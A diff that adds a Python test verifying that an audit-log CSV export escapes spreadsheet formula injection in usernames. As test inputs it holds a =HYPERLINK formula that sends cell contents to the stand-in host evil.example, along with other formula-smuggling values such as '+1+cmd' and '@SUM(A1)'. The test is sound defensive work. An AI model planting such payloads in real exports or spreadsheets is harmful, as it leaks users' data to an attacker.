@@ -106,3 +106,27 @@ def test_cli_audit(tmp_path: Path, capsys) -> None:
     assert out.splitlines()[0].split() == ["id", "at", "user", "action", "detail"]
     assert main(["audit", "--db", db, "--since", "yesterday"]) == 2
     assert "is not an ISO 8601 date-time" in capsys.readouterr().err
+
+
+def test_csv_download_neutralises_formulas(tmp_path: Path) -> None:
+    """A sign-in attempt named =HYPERLINK(...) lands in the log as text, never a live cell."""
+    import csv
+    import io
+
+    from coverage.ops import accounts
+
+    with open_store(f"sqlite:///{tmp_path}/a.db") as store:
+        accounts.authenticate(store, '=HYPERLINK("http://evil.example/?"&A1,"click")', "x")
+        for name in ("+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"):
+            audit.record(store, "login_failed", user=name, detail={"note": "=1+1"})
+        audit.record(store, "export", user="ana", detail={"rows": -3})
+        frame = audit.entries_frame(audit.query(store))
+    text = audit.safe_csv(frame).decode("utf-8")
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    users = [r["user"] for r in rows]
+    assert users[-1] == "'=hyperlink(\"http://evil.example/?\"&a1,\"click\")"
+    assert set(users[1:6]) == {"'+1+cmd", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx"}
+    assert users[0] == "ana"  # plain text unchanged
+    assert rows[0]["id"].isdigit()  # numbers unchanged
+    for r in rows:
+        assert not r["user"].startswith(("=", "+", "-", "@", "\t", "\r"))
